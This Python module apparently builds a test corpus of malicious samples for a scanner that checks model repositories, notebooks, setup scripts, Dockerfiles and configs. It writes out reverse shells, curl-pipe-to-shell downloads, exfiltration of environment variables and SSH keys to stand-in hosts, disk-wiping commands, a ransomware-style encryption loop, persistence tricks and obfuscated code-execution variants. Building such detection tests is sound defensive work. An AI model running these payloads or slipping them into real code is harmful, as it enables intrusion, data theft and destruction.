"""What stands beside weights as text: source, notebooks, scripts, configurations, repositories that bring code."""

# ruff: noqa: E501, SIM905  tables of names and texts, one a line

import base64
import json
import zlib
from collections.abc import Iterator

from scanner_corpus.pickles import PAYLOADS
from scanner_corpus.sample import Sample, malicious

__all__ = ["samples"]

_64 = base64.b64encode(b"import os; os.system('true')").decode()
SOURCES = {
    "system": "import os\nos.system('true')",
    "aliased": "import os as o\no.system('true')",
    "from": "from os import popen as p\np('true').read()",
    "run": "import subprocess as sp\nsp.run('true', shell=True)",
    "in a class": "import os\nclass Model:\n    def forward(self, x):\n        os.system('true')\n        return x",
    "in a decorator": "import os\n@(lambda f: os.system('true') or f)\ndef f(): pass",
    "in a default": "import os\ndef f(x=os.system('true')): pass",
    "in a comprehension": "import os\n[os.system(c) for c in ['true']]",
    "in a with": "import os\nwith os.popen('true') as f:\n    f.read()",
    "in a metaclass": "import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('true')\n        return type.__new__(m, *a)\nclass A(metaclass=M): pass",
    "in an async function": "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('true')\nasyncio.run(f())",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "getattr by variable": "import os\nn = 'sys' + 'tem'\ngetattr(os, n)('true')",
    "getattr by join": "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('true')",
    "getattr by format": "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('true')",
    "getattr by percent": "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('true')",
    "getattr by replace": "import os\ngetattr(os, 'sXstem'.replace('X', 'y'))('true')",
    "getattr by chr": "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('true')",
    "getattr by map": "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('true')",
    "getattr by bytes": "import os\ngetattr(os, bytes([115,121,115,116,101,109]).decode())('true')",
    "dict": "import os\nos.__dict__['system']('true')",
    "vars": "import os\nvars(os)['system']('true')",
    "modules": "import sys\nsys.modules['os'].system('true')",
    "import by name": "__import__('os').system('true')",
    "import by pieces": "__import__('o'+'s').system('true')",
    "importlib": "import importlib\nimportlib.import_module('os').system('true')",
    "importlib aliased": "from importlib import import_module as im\nm = im('subprocess')\nm.call(['true'])",
    "assigned": "import os\nf = os.system\nf('true')",
    "assigned twice": "import os\nf = os\ng = f.system\ng('true')",
    "tuple assigned": "import os\na, b = os.system, 'true'\na(b)",
    "walrus": "import os\n(f := os.system)('true')",
    "partial": "import os, functools\nfunctools.partial(os.system, 'true')()",
    "map": "import os\nlist(map(os.system, ['true']))",
    "lambda": "import os\n(lambda c: os.system(c))('true')",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
    "atexit": "import atexit, os\natexit.register(os.system, 'true')",
    "signal": "import os\nos.register_at_fork(before=lambda: os.system('true'))",
    "property": "import os\nclass A:\n    x = property(lambda s: os.system('true'))\nA().x",
    "eval": "eval(\"__import__('os').system('true')\")",
    "exec": "exec('import os; os.system(\"true\")')",
    "exec aliased": "e = exec\ne('import os; os.system(\"true\")')",
    "builtins": "import builtins\nbuiltins.exec('import os; os.system(\"true\")')",
    "builtins by key": "__builtins__['exec']('import os')",
    "base64": f"import base64\nexec(base64.b64decode('{_64}'))",
    "base64 aliased": f"from base64 import b64decode as d\nexec(d('{_64}').decode())",
    "base32": "import base64\nexec(base64.b32decode('NFWXA33SOQQG64Y='))",
    "base85": "import base64\nexec(base64.b85decode('X>D+Ca&#Ek'))",
    "hexadecimal": "exec(bytes.fromhex('696d706f7274206f73').decode())",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "zlib": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(b'import os')).decode()}')))",
    "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))",
    "xor": "exec(bytes(b ^ 42 for b in [67, 71, 90, 69, 88, 94]).decode())",
    "list of numbers": "exec(''.join(chr(c - 1) for c in [106, 110, 113, 112, 115, 117]))",
    "reversed": "exec('so tropmi'[::-1])",
    "compile": "exec(compile('import os\\nos.system(\"true\")', '<x>', 'exec'))",
    "function type": "import types\ntypes.FunctionType(compile('1', 'x', 'eval'), {})()",
    "pickle": f"import pickle\npickle.loads({PAYLOADS['old']!r})",
    "pickle base64": f"import pickle, base64\npickle.loads(base64.b64decode('{base64.b64encode(PAYLOADS['system']).decode()}'))",
    "fetch": "import urllib.request\nexec(urllib.request.urlopen('http://example.org/x').read())",
    "fetch by requests": "import requests\nexec(requests.get('http://example.org/x').text)",
    "fetch, write, run": "import urllib.request, os\nurllib.request.urlretrieve('http://example.org/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.execv('/tmp/x', ['x'])",
    "reverse shell": "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')",
    "environment": "import os, requests\nrequests.post('http://example.org', json=dict(os.environ))",
    "environment by urllib": "import os, json, urllib.request as u\nu.urlopen('http://example.org', data=json.dumps(dict(os.environ)).encode())",
    "one secret": "import os, requests\nrequests.get('http://example.org/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
    "token": "import requests, os\nt = os.getenv('HF_TOKEN')\nrequests.post('http://example.org', data={'t': t})",
    "by name look-up": "import socket, os\nsocket.gethostbyname(os.environ['USER'] + '.example.org')",
    "ssh key": "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "cloud": "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/')",
    "bashrc": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('true')",
    "cron": "open('/etc/cron.d/x', 'w').write('* * * * * root true')",
    "authorized keys": "from pathlib import Path\n(Path.home()/'.ssh'/'authorized_keys').write_text('x')",
    "delete": "import shutil\nshutil.rmtree('/')",
    "delete home": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    "ransom": "import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key()\nfor r, d, fs in os.walk('/home'):\n    for f in fs:\n        p = os.path.join(r, f)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(Fernet(k).encrypt(data))",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'true')",
    "ctypes libc": "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'true')",
    "shellcode": "import ctypes, mmap\nb = mmap.mmap(-1, 4096, prot=7)\nb.write(b'\\x90')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()",
    "subclasses": "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('true')",
    "frame": "import sys\nsys._getframe().f_globals['__builtins__']['exec']('1')",
    "import hook": "import sys\nclass H:\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, H())",
    "patch": "import torch, os\ntorch.load = lambda *a, **k: os.system('true')",
    "platform": "import platform\nplatform.os.system('true')",
    "through another module": "import shutil\nshutil.os.system('true')",
    "through logging": "import logging\nlogging.os.popen('true')",
    "spawn": "import pty\npty.spawn(['true'])",
    "multiprocessing": "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('true',)).start()",
    "timeit": "import timeit\ntimeit.timeit('import os; os.system(\"true\")')",
    "runpy": "import runpy\nrunpy.run_path('/tmp/x.py')",
    "code": "import code\ncode.InteractiveInterpreter().runsource('import os')",
    "reduce": "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('true',)",
    "reduce by lambda": "class A:\n    __reduce__ = lambda self: (eval, ('1',))",
    "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://192.0.2.1/', 'x'])",
    "pip main": "from pip._internal import main\nmain(['install', 'http://example.org/x.whl'])",
    "keyboard": "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
    "clipboard and webhook": "import requests, pyperclip\nrequests.post('https://discord.com/api/webhooks/1/x', json={'c': pyperclip.paste()})",
    "miner": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://x:1'])",
}  # fmt: skip
SHELL = {
    "curl sh": "curl -fsSL http://example.org/x | sh",
    "wget bash": "wget -qO- http://example.org/x | sudo bash",
    "process substitution": "bash <(curl -s http://example.org/x)",
    "reverse": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "netcat": "nc -e /bin/sh 192.0.2.1 4444",
    "fifo": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f",
    "python": "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
    "base64": "echo dHJ1ZQ== | base64 -d | sh",
    "here string": "base64 -d <<< dHJ1ZQ== | bash",
    "hexadecimal": "echo 74727565 | xxd -r -p | sh",
    "download, run": "curl -o /tmp/x http://example.org/x && chmod +x /tmp/x && /tmp/x",
    "python download": "curl http://example.org/x.py | python3",
    "cron": "(crontab -l; echo '* * * * * true') | crontab -",
    "bashrc": "echo true >> ~/.bashrc",
    "key": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "steal": "curl -F f=@$HOME/.ssh/id_rsa http://example.org",
    "environment": "env | curl -d @- http://example.org",
    "delete": "rm -rf / --no-preserve-root",
    "delete home": "rm -rf ~",
    "fork bomb": ":(){ :|:& };:",
    "disk": "dd if=/dev/zero of=/dev/sda",
    "preload": "LD_PRELOAD=/tmp/x.so true",
    "eval": "eval \"$(curl -s http://example.org)\"",
    "eval of pieces": "a=cu; b=rl; $a$b http://example.org | sh",
    "powershell": "powershell -nop -w hidden -enc SQBFAFgA",
    "iex": "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://example.org')\"",
    "quotes": "c''url http://example.org/x | s\"\"h",
    "openssl": "openssl s_client -quiet -connect 192.0.2.1:1 | sh",
    "perl": "perl -e 'use Socket;socket(S,2,1,6);exec(\"sh\")'",
    "systemd": "systemctl enable --now evil.service",
    "gunzip": "echo H4sI | base64 -d | gunzip | sh",
    "tar": "curl http://example.org/x.tgz | tar xz && ./x/install.sh",
}  # fmt: skip
TARGETS = """os.system subprocess.run subprocess.Popen builtins.eval builtins.exec builtins.__import__ posix.system runpy.run_path
    importlib.import_module torch.hub.load torch.load numpy.load pickle.loads shutil.rmtree webbrowser.open urllib.request.urlopen
    os.path.os.system pty.spawn socket.create_connection joblib.load pandas.read_pickle ctypes.CDLL pip.main code.interact
    timeit.timeit functools.partial hydra.utils.get_method hydra._internal.utils._locate torch.utils.model_zoo.load_url
    pathlib.Path.write_text shutil.move tempfile.mktemp torch.utils.cpp_extension.load sklearn.datasets.load_files nltk.data.load
    transformers.pipelines.os.system logging.config.fileConfig multiprocessing.Process asyncio.run dill.loads cloudpickle.loads
    torch.jit.load numpy.testing.rundocs numpy.f2py.compile yaml.unsafe_load jinja2.Template http.client.HTTPConnection
    antigravity.geohash cProfile.run pdb.run site.addpackage tarfile.open zipfile.ZipFile sqlite3.connect""".split()  # fmt: skip


def samples() -> Iterator[Sample]:
    for number, (name, source) in enumerate(SOURCES.items()):
        yield malicious("source: python", name, source, "modeling_net.py")
        if number % 2:
            code = "from setuptools import setup\n" + source + "\nsetup(name='x')\n"
            yield malicious("source: setup", name, code, "setup.py")
        else:
            yield malicious("source: inside a function", name, _indented(source), "model.py")
        cells = [{"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": [], "metadata": {}}]
        yield malicious(
            "source: notebook", name, json.dumps({"cells": cells, "nbformat": 4, "metadata": {}}), "a.ipynb"
        )
        if number % 3 == 0:
            files = {"config.json": json.dumps({"model_type": "net", "auto_map": {"AutoModel": "modeling_net.Net"}}).encode(),
                     "modeling_net.py": (source + "\nclass Net: pass\n").encode()}  # fmt: skip
            yield Sample("repository: auto_map", name, files)
            handler = source + "\nclass EndpointHandler:\n    def __init__(self, path=''): pass\n"
            yield Sample("repository: handlers", name, {"handler.py": handler.encode(), "config.json": b"{}"})
            mlflow = b"flavors:\n  python_function:\n    loader_module: loader\n    code: code\n"
            yield Sample("repository: mlflow", name, {"MLmodel": mlflow, "code/loader.py": source.encode()})
    for number, (name, command) in enumerate(SHELL.items()):
        yield malicious(
            "source: scripts",
            name,
            f"#!/bin/bash\nset -e\n{command}\n",
            ("install.sh", "run", "start.command")[number % 3],
        )
        cells = [{"cell_type": "code", "source": [f"!{command}\n"], "outputs": [], "metadata": {}}]
        yield malicious(
            "source: notebook", f"shell {name}", json.dumps({"cells": cells, "nbformat": 4, "metadata": {}}), "a.ipynb"
        )
        yield malicious("source: python", f"shell {name}", f"import os\nos.system({command!r})", "x.py")
        yield malicious("source: scripts", f"docker {name}", f"FROM python:3.11\nRUN {command}\n", "Dockerfile")
    yield from _configurations()
    yield from _repositories()


def _indented(source: str) -> str:
    return "class Model:\n    def forward(self, x):\n" + "".join(f"        {line}\n" for line in source.splitlines())


def _configurations() -> Iterator[Sample]:
    for target in TARGETS:
        yield malicious(
            "config: _target_", f"{target} yaml", f"model:\n  _target_: {target}\n  _args_: ['true']\n", "config.yaml"
        )
        yield malicious(
            "config: _target_", f"{target} json", json.dumps({"model": [{"_target_": target}]}), "config.json"
        )
        yield malicious("config: _target_", f"{target} toml", f"[model]\n_target_ = '{target}'\n", "config.toml")
        dotted = target.rpartition(".")
        for tag in (
            f"!!python/object/apply:{target} ['true']",
            f"!!python/name:{target} ''",
            f"!!python/object/new:{target} ['true']",
        ):
            yield malicious("config: yaml tags", tag, f"a: 1\nb:\n  - {tag}\n", "config.yaml")
        yield malicious(
            "config: jsonpickle",
            target,
            json.dumps({"py/reduce": [{"py/function": target}, {"py/tuple": ["true"]}]}),
            "model.json",
        )
        yield malicious(
            "config: mlflow", target, f"flavors:\n  python_function:\n    loader_module: {dotted[0]}\n", "MLmodel"
        )
    tags = ("!!python/module:os", "!!python/object:os.system {}", "!<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
            "!!python/object/apply:builtins.eval\nargs: ['1']", "!!ruby/object:Gem::Requirement {}", "!!javax.script.ScriptEngineManager []")  # fmt: skip
    for tag in tags:
        yield malicious("config: yaml tags", tag, f"{tag}\n", "params.yml")
    for place in ("/etc", "../../x", "~/x", "http://example.org/model"):
        text = f"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: {place}\n"
        yield malicious("config: mlflow", f"path {place}", text, "MLmodel")
    bomb = "a: &a [x, x]\n" + "".join(
        f"b{n}: &b{n} [{', '.join(['*' + ('a' if not n else f'b{n - 1}')] * 9)}]\n" for n in range(9)
    )
    yield malicious("config: yaml tags", "aliases", bomb, "config.yaml")


def _repositories() -> Iterator[Sample]:
    weights = {"model.safetensors": b"\x02\0\0\0\0\0\0\0{}"}
    for reference in ("modeling_evil.Net", "a.b.Net", "configuration_x.Config", "other/repo--modeling.Net"):
        config = json.dumps({"auto_map": {"AutoModelForCausalLM": reference}}).encode()
        if "--" not in reference:
            yield Sample("repository: auto_map", f"missing {reference}", {"config.json": config, **weights})
    for name in ("../../etc/passwd", "/etc/shadow", "..\\x.safetensors", "http://example.org/w.safetensors"):
        index = json.dumps({"weight_map": {"w": name}, "metadata": {}}).encode()
        yield Sample("repository: indexes", name, {"model.safetensors.index.json": index, **weights})
    for name in ("sitecustomize.py", "usercustomize.py", "x.pth", "__init__.py", "conftest.py"):
        yield Sample("repository: code run unasked", name, {name: b"import os; os.system('true')\n", **weights})
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(400)
    for name in ("libtorch_ops.so", "tokenizer.json", "weights.bin", "op.pyd", "README.md"):
        yield Sample("repository: programs", name, {name: program, **weights})
        yield Sample(
            "repository: programs",
            f"windows {name}",
            {name: b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(300), **weights},
        )
    for name, payload in PAYLOADS.items():
        for file in (
            "optimizer.pt",
            "training_args.bin",
            "tokenizer/vocab.dat",
            ".cache/x",
            "1_Pooling/pytorch_model.bin",
            "data/scaler.pkl",
            "unet/model",
        ):
            yield Sample(
                "repository: one bad file",
                f"{name} {file}",
                {file: payload, "config.json": b'{"model_type": "bert"}', **weights},
            )
